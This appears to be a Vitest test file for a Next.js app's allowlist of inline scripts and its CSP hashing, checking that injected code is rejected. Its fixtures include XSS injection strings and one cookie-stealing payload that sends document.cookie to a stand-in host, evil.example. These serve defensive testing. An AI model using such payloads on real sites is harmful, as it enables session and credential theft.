import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { describe, expect, it } from 'vitest'
import { EARLY_CLICKS_SCRIPT } from '@/lib/analytics/early-clicks'
import { isKnownInlineScript, REACT_FORM_REPLAY } from '../../scripts/server/inline-scripts.mjs'
import { loadScriptsAfterPaint } from '../../scripts/server/scripts-after-load.mjs'
import { inlineScriptHashes } from '../../scripts/server/security-headers.mjs'

const require = createRequire(import.meta.url)

describe('the inline scripts a public page may run', () => {
  it('knows the app’s own scripts and Next’s, as they appear in a page', () => {
    const loaderPage = loadScriptsAfterPaint(
      '<body><script src="/_next/static/chunks/a-1.js" async=""></script></body>',
    )
    const loader = /<script>([\s\S]*)<\/script>/.exec(loaderPage)![1]!
    for (const script of [
      EARLY_CLICKS_SCRIPT,
      '(self.__next_f=self.__next_f||[]).push([0])',
      'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[339756,[],\\"default\\"]\\n"])',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/x.js"],"runtimeModuleIds":[494553]});',
      loader,
    ])
      expect(isKnownInlineScript(script), script.slice(0, 40)).toBe(true)
  })

  it('refuses anything else, also code around or inside known calls', () => {
    for (const script of [
      'alert(1)',
      `${EARLY_CLICKS_SCRIPT};alert(1)`,
      'self.__next_f.push([1,"a"]);alert(1)//)',
      'self.__next_f.push([1,"a"].concat(alert(1)))',
      'self.__next_f.push(alert(1))',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(fetch("/x"));',
      '',
    ])
      expect(isKnownInlineScript(script), script).toBe(false)
  })

  it('hashes only known scripts of a page and counts the others', () => {
    const html = [
      '<script>self.__next_f.push([1,"a"])</script>',
      '<script>document.location="https://evil.example/?"+document.cookie</script>',
      '<script type="application/ld+json">{"@type":"Organization"}</script>',
      '<script>self.__next_f.push([1,"a"])</script>',
    ].join('')
    const { hashes, unknown } = inlineScriptHashes(html)
    expect(hashes).toHaveLength(1)
    expect(unknown).toBe(1)
  })

  it('holds React’s form-replay runtime as the react-dom Next ships it', () => {
    const next = require.resolve('next/package.json')
    for (const channel of ['react-dom', 'react-dom-experimental']) {
      const server = readFileSync(
        next.replace(
          'package.json',
          `dist/compiled/${channel}/cjs/react-dom-server.node.production.js`,
        ),
        'utf8',
      )
      expect(server, channel).toContain(`'${REACT_FORM_REPLAY.replace(/'/g, "\\'")}'`)
    }
  })
})
